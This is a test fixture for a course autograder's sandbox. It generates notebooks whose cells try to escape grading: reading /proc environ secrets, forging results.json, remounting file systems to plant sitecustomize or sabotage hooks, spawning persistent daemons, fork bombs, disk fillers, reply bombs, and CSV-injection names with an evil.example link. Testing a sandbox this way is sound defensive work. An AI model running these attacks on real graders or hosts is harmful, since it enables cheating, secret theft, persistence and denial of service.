"""Dishonest notebooks that try to reach outside the student's world while graded (tests/test_sandbox.py).

Each is the chapter 01 solution with two exercises left unwritten (`element_offset`, `broadcast_shape`), so
its four honest exercises must still pass, plus one cell that tries to get the two others (or to do harm)
from outside: the solutions, the hidden checks, a classmate's notebook, the instructor's files and
environment, the network, a process that outlives the kernel. Each cheat is wrapped in `try` so that it
fails quietly, as a real one would. A cheat that *reaches* its target turns that into a grade we can see
(the two exercises written from what it found), and its target is checked directly by the test as well.
"""
from __future__ import annotations

import contextlib
import os
import pwd
import stat
import sys
from dataclasses import dataclass
from pathlib import Path

import nbformat

from tests import hazards

BLANKED = ("element_offset", "broadcast_shape")
HONEST = tuple(e for e in hazards.EXERCISES if e not in BLANKED)


@dataclass(frozen=True)
class Targets:
    """What the cheats aim at; the test checks each of these, not only the grades."""
    repo: Path          # the course repository (solutions/, grader/hidden/)
    classmate: Path     # another student's solved notebook in the same class
    home: Path          # the grading user's home folder (its .bashrc)
    port: int           # a TCP server on 127.0.0.1 started by the test
    secret: str         # a variable in the grading process's environment
    token: str          # names the files and processes the cheats create


def blank(nb: nbformat.NotebookNode) -> nbformat.NotebookNode:
    for name in BLANKED:
        args = "x, index" if name == "element_offset" else "a, b"
        hazards.replace_def(nb, name, f"def {name}({args}):\n    raise NotImplementedError\n")
    return nb


# Run the code cells of a notebook (text) that define the blanked exercises: what every copying cheat does.
ADOPT = '''
def _adopt(text):
    import json
    for cell in json.loads(text)["cells"]:
        src = "".join(cell["source"]) if isinstance(cell["source"], list) else cell["source"]
        if cell["cell_type"] == "code" and ("def element_offset" in src or "def broadcast_shape" in src):
            exec(src, globals())
'''


def solution_hunter(t: Targets, walk: bool = True) -> str:
    """Look for solutions/01_tensors.ipynb above the grader package and the working folder, and where it is
    (`walk`: and anywhere on the file system the kernel can list)."""
    code = ADOPT + f'''
import os, pathlib, subprocess, grader
_places = [*pathlib.Path(grader.__file__).resolve().parents, *pathlib.Path.cwd().resolve().parents,
           pathlib.Path({str(t.repo)!r})]
for _p in _places:
    try:
        _adopt((_p / "solutions" / "01_tensors.ipynb").read_text())
        break
    except Exception:
        pass
try:  # the same through another program
    _adopt(subprocess.run(["cat", {str(t.repo / "solutions" / "01_tensors.ipynb")!r}], capture_output=True,
                          text=True, timeout=10).stdout)
except Exception:
    pass
'''
    return code + WALK if walk else code


WALK = '''
try:  # and by walking the whole file system
    for _root, _dirs, _files in os.walk("/"):
        _dirs[:] = [d for d in _dirs if d not in ("proc", "sys", "dev")]
        if "01_tensors.ipynb" in _files and _root.endswith("solutions"):
            _adopt(open(os.path.join(_root, "01_tensors.ipynb")).read())
            break
except Exception:
    pass
'''


def hidden_importer(t: Targets) -> str:
    """Import the hidden checks (and another chapter's hidden reference) every way a cheat might."""
    return f'''
import importlib, importlib.util, sys
def _reached():
    from grader.exercises.tensors import _broadcast_shapes
    global broadcast_shape, element_offset
    broadcast_shape = lambda a, b: tuple(_broadcast_shapes(a, b))
    element_offset = lambda x, index: x.storage_offset() + sum(i * s for i, s in zip(index, x.stride()))
try:
    import grader.hidden.tensors
    _reached()
except Exception:
    pass
try:
    from grader.hidden.ddp import reference_ring
    _reached()
except Exception:
    pass
try:
    _spec = importlib.util.spec_from_file_location("_h", {str(t.repo / "grader" / "hidden" / "tensors.py")!r})
    _spec.loader.exec_module(importlib.util.module_from_spec(_spec))
    _reached()
except Exception:
    pass
try:
    sys.path.insert(0, {str(t.repo)!r})
    import grader.hidden
    _reached()
except Exception:
    pass
'''


def grader_reloader(t: Targets) -> str:
    """Forget the grader it was given and import it again from the course repository, hidden checks included."""
    return hidden_importer(t).replace("    import grader.hidden\n", """    for _m in [m for m in sys.modules if m == "grader" or m.startswith("grader.")]:
        sys.modules.pop(_m)
    importlib.invalidate_caches()
    import grader.hidden
""")


def classmate_copier(t: Targets) -> str:
    """Copy a classmate's notebook (by its path, and by searching around the working folder), then spoil it."""
    return ADOPT + f'''
import glob, os
for _path in [{str(t.classmate)!r}, *glob.glob("../../**/*.ipynb", recursive=True),
              *glob.glob("/tmp/**/*.ipynb", recursive=True)]:
    try:
        if os.path.abspath(_path) != os.path.abspath("01_tensors.ipynb"):
            _adopt(open(_path).read())
    except Exception:
        pass
try:
    with open({str(t.classmate)!r}, "a") as _f:
        _f.write("spoiled")
except Exception:
    pass
'''


def home_writer(t: Targets) -> str:
    """Write the grading user's ~/.bashrc and files in the course repository."""
    return f'''
import os
for _path in [os.path.expanduser("~/.bashrc"), {str(t.home / ".bashrc")!r},
              {str(t.repo / f"PWNED-{t.token}")!r}, {str(t.repo / "grader" / "hidden" / f"pwned_{t.token}.py")!r}]:
    try:
        with open(_path, "a") as _f:
            _f.write("echo {t.token}\\n")
    except Exception:
        pass
'''


def network_caller(t: Targets) -> str:
    """Open a TCP connection to the test's server on 127.0.0.1 (and to the outside world)."""
    return f'''
import socket
for _address in [("127.0.0.1", {t.port}), ("localhost", {t.port})]:
    try:
        with socket.create_connection(_address, timeout=2) as _s:
            _s.sendall(b"{t.token}")
    except Exception:
        pass
'''


def daemon_forker(t: Targets) -> str:
    """Start processes meant to outlive the kernel: a new session, and a double fork."""
    return f'''
import os, subprocess, sys
try:
    subprocess.Popen([sys.executable, "-c", "import time; time.sleep(300)", "{t.token}"], start_new_session=True,
                     stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
except Exception:
    pass
try:
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            os.execv(sys.executable, [sys.executable, "-c", "import time; time.sleep(300)", "{t.token}-forked"])
        os._exit(0)
    os.wait()
except Exception:
    pass
'''


def secret_reader(t: Targets) -> str:
    """Read the grading process's environment; finding the secret spoils an honest answer (a visible signal)."""
    return f'''
import os
_found = any({t.secret!r} in v for v in os.environ.values())
for _pid in os.listdir("/proc"):
    try:
        _found = _found or {t.secret!r}.encode() in open(f"/proc/{{_pid}}/environ", "rb").read()
    except Exception:
        pass
if _found:
    def same_storage(a, b):
        return True
'''


def results_forger(results: Path, token: str) -> str:
    """Write Gradescope's results.json with full marks, now and from a process that waits for the grader to finish."""
    forged = '{"score": 1000, "output": "' + token + '", "tests": []}'
    return f'''
import os, subprocess, sys
_forged = {forged!r}
try:
    with open({str(results)!r}, "w") as _f:
        _f.write(_forged)
except Exception:
    pass
try:
    subprocess.Popen([sys.executable, "-c", "import time; time.sleep(8); open({str(results)!r}, 'w').write("
                      + repr(_forged) + ")", {token!r}], start_new_session=True,
                     stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
except Exception:
    pass
'''


@contextlib.contextmanager
def python_reachable_by(user: str):
    """Let an unprivileged `user` run the course's interpreter: traverse-only permission on the folders above it
    it cannot enter (this machine's Python lives under /root, mode 0700), taken away again after."""
    uid = pwd.getpwnam(user).pw_uid
    opened = [p for p in reversed(Path(os.path.realpath(sys.executable)).parents)
              if p.stat().st_uid != uid and not p.stat().st_mode & stat.S_IXOTH]
    for folder in opened:
        folder.chmod(folder.stat().st_mode | stat.S_IXOTH)
    try:
        yield
    finally:
        for folder in opened:
            folder.chmod(folder.stat().st_mode & ~stat.S_IXOTH)


# What a cheat must score when it reaches nothing: its honest exercises pass, the two it did not write are not written.
EXPECTED = {**{e: "passed" for e in HONEST}, **{e: "not_implemented" for e in BLANKED}}
# ---------------------------------------------------------------- attacks on the machine, as root

def planted_places() -> list[Path]:
    """Folders a persistent cheat would write code into: every folder on the grading interpreter's path, its
    site and user-site folders, the standard library's, and three of the system's (the kernel sees the same paths)."""
    import site
    import sysconfig
    found = [Path(p) for p in sys.path if p and os.path.isdir(p)]
    found += [Path(p) for p in site.getsitepackages() + [site.getusersitepackages(), sysconfig.get_paths()["stdlib"]]]
    found += [Path("/usr/lib"), Path("/usr/local/lib"), Path("/etc")]
    return sorted(set(found))


IMPORTED_BY_THE_GRADER = ("rich", "torch", "numpy", "IPython", "nbformat", "jupyter_client")


def remounter(t: Targets) -> str:
    """Remount every read-only view writable (the mount system call, the mount program, and both again inside a
    new user namespace), then plant code where the grading process would run it: start-up files and a module
    in every folder on the path, a comment appended to modules the grader imports, a file in /etc."""
    places = [str(p) for p in planted_places()]
    return f'''
import ctypes, os, subprocess, sys
_libc = ctypes.CDLL(None, use_errno=True)
_points = sorted({{line.split()[4] for line in open("/proc/self/mountinfo")}})
for _mp in _points:
    for _flags in (32 | 4096, 32):
        try:
            _libc.mount(None, _mp.encode(), None, _flags, None)
        except Exception:
            pass
_script = "for m in " + " ".join(_points) + "; do mount -o remount,bind,rw $m; mount -o remount,rw $m; done"
for _argv in (["sh", "-c", _script], ["unshare", "-Urm", "sh", "-c", _script]):
    try:
        subprocess.run(_argv, capture_output=True, timeout=20)
    except Exception:
        pass
for _d in {places!r} + [p for p in sys.path if p]:
    for _name in ("sitecustomize.py", "usercustomize.py", "{t.token}.pth", "{t.token}.py"):
        try:
            with open(os.path.join(_d, _name), "a") as _f:
                _f.write("# {t.token}\\n")
        except Exception:
            pass
for _m in {IMPORTED_BY_THE_GRADER!r} + ("grader",):
    try:
        with open(__import__(_m).__file__, "a") as _f:
            _f.write("\\n# {t.token}\\n")
    except Exception:
        pass
'''


def saboteur(t: Targets) -> str:
    """Append to the public grader every kernel imports a hook that fails every later notebook's checks (the
    classmate graded after it in the same run is the target), after trying to make it writable."""
    return remounter(t) + '''
import grader, os
_hook = """
def _sabotage(*args, **kwargs):
    from IPython import get_ipython
    shell = get_ipython()
    for name, value in list(shell.user_ns.items()):
        if callable(value) and getattr(value, "__module__", "") == "__main__" and not name.startswith("_"):
            def broken(*a, **k):
                raise RuntimeError("sabotaged")
            shell.user_ns[name] = broken
try:
    from IPython import get_ipython
    get_ipython().events.register("post_run_cell", _sabotage)
except Exception:
    pass
"""
for _path in [grader.__file__, os.path.join(os.path.dirname(grader.__file__), "runner.py")]:
    try:
        with open(_path, "a") as _f:
            _f.write(_hook)
    except Exception:
        pass
'''


# The leaker counts its same_storage calls and raises the count from element_offset, whose public checks'
# messages the student reads: a count above the public checks' own would mean hidden inputs came first.
LEAKER = '''
_CALLS = []
_honest_same_storage = same_storage
def same_storage(a, b):
    _CALLS.append((tuple(a.shape), tuple(a.stride()), a.storage_offset()))
    return _honest_same_storage(a, b)
def element_offset(x, index):
    raise ValueError(f"LEAK calls={len(_CALLS)} {_CALLS[-40:]!r}")
'''


def leaker(t: Targets) -> str:
    return LEAKER


def reply_bomber(t: Targets) -> str:
    """Replace the kernel side's packing with one that returns a list holding one large list many times over: a
    reply of a few megabytes whose decoding, without a budget, builds hundreds of millions of values."""
    return '''
import sys
_inner_big, _inner_small = [None] * (1 << 20), [None] * 150_000
_n = [0]
def _bomb(*args, **kwargs):
    _n[0] += 1
    return [_inner_big] * 100 if _n[0] % 2 else [_inner_small] * 1000
sys.modules["__grader_bridge__"].pack = _bomb
'''


def _caps() -> dict[str, int]:
    """What the kernel's file systems hold with the test's --memory (3G: Limits.files is a quarter of it, split by
    sandbox.SHARES)."""
    from grader.autograde.kernel import Limits
    from grader.autograde.sandbox import file_space
    space = file_space(Limits(memory=3 * 2**30).files)
    return {"/tmp": space["/tmp"], "/dev/shm": space["/dev/shm"], ".": space["folder"]}


def disk_filler(t: Targets) -> str:
    """Write 2 GiB to /tmp, 1 GiB to /dev/shm and 3 GiB to its folder (all in memory: the machine's RAM); past a
    cap (with a mebibyte to spare) it spoils same_storage."""
    return f'''
import os
def _fill(path, total):
    written, chunk = 0, b"\\0" * (1 << 20)
    try:
        with open(path, "wb") as f:
            while written < total:
                f.write(chunk)
                f.flush()
                written += len(chunk)
    except OSError:
        pass
    try:
        os.remove(path)
    except OSError:
        pass
    return written
_got = {{"/tmp": _fill("/tmp/{t.token}", 2 << 30), "/dev/shm": _fill("/dev/shm/{t.token}", 1 << 30),
        ".": _fill("{t.token}.bin", 3 << 30)}}
if any(_got[k] > cap + (1 << 20) for k, cap in {_caps()!r}.items()):
    def same_storage(a, b):
        return True
'''


def fork_bomber(t: Targets) -> str:
    """Start 1,000 processes (each execs sleep under the token's name), count how many started, end them; at the
    process cap or past it, it spoils same_storage."""
    from grader.autograde.kernel import Limits
    return f'''
import os, signal
_pids = []
try:
    for _ in range(1000):
        _pid = os.fork()
        if _pid == 0:
            try:
                os.execv("/usr/bin/sleep", ["{t.token}", "60"])
            finally:
                os._exit(0)
        _pids.append(_pid)
except OSError:
    pass
for _pid in _pids:
    try:
        os.kill(_pid, signal.SIGKILL)
        os.waitpid(_pid, 0)
    except OSError:
        pass
if len(_pids) >= {Limits().processes}:
    def same_storage(a, b):
        return True
'''


def limits_in_a_check(t: Targets) -> str:
    """same_storage fills /tmp and merge_heads forks without end, inside their checks: each such check ends
    `memory`, saying which of the kernel's limits it ran into."""
    return f'''
import subprocess
def same_storage(a, b):
    with open("/tmp/{t.token}", "wb") as f:
        while True:
            f.write(b"\\0" * (1 << 20))
def merge_heads(x):
    started = []
    try:
        while True:
            started.append(subprocess.Popen(["{t.token}", "60"], executable="/usr/bin/sleep"))
    finally:
        for p in started:
            p.kill()
            p.wait()
'''


def honest(t: Targets) -> str:
    """No cheat: the student's name is the attack (FORMULA_NAMES)."""
    return ""


# A formula in a student's folder name, which a spreadsheet would run (OWASP's CSV injection).
FORMULA_NAMES = ('=HYPERLINK("evil.example","click")', "@SUM(1+1)", "+1+1", "-2+3")
LEAKED = {**EXPECTED, "element_offset": "error"}
AT_A_LIMIT = {**EXPECTED, "same_storage": "memory", "merge_heads": "memory"}
# The reply bomber's every reply that carries a tensor is over budget: each such check fails, saying so (none
# stalls or crashes grading); broadcast_shape, blank and called with tuples only, stays not implemented.
BOMBED = {**{e: "failed" for e in hazards.EXERCISES}, "broadcast_shape": "not_implemented"}


# Replacing the grader's modules is detected: every exercise is `tampered` (its message still says what the
# checks found on their own: nothing for the two blank exercises).
TAMPERED = {e: "tampered" for e in hazards.EXERCISES}
CHEATS = {
    "solution hunter": (solution_hunter, EXPECTED), "hidden importer": (hidden_importer, EXPECTED),
    "grader reloader": (grader_reloader, TAMPERED), "classmate copier": (classmate_copier, EXPECTED),
    "home writer": (home_writer, EXPECTED), "network caller": (network_caller, EXPECTED),
    "daemon forker": (daemon_forker, EXPECTED), "secret reader": (secret_reader, EXPECTED),
    "remounter": (remounter, EXPECTED), "saboteur": (saboteur, EXPECTED), "leaker": (leaker, LEAKED),
    "reply bomber": (reply_bomber, BOMBED), "disk filler": (disk_filler, EXPECTED),
    "fork bomber": (fork_bomber, EXPECTED), "limits in a check": (limits_in_a_check, AT_A_LIMIT),
    **{name: (honest, EXPECTED) for name in FORMULA_NAMES},
}


def build(root: Path, t: Targets) -> Path:
    """A class: one student per cheat, and the classmate (solved, at `t.classmate` under `root`) they copy and
    sabotage; her notebook is the smallest, so she is graded last (grading takes the largest first)."""
    hazards.write(hazards.exercises_only(), t.classmate)
    for student, (cheat, _) in CHEATS.items():
        nb = blank(hazards.exercises_only())
        code = cheat(t)
        if code:
            nb.cells.append(nbformat.v4.new_code_cell(code))
        hazards.write(nb, root / student / "01_tensors.ipynb")
    return root
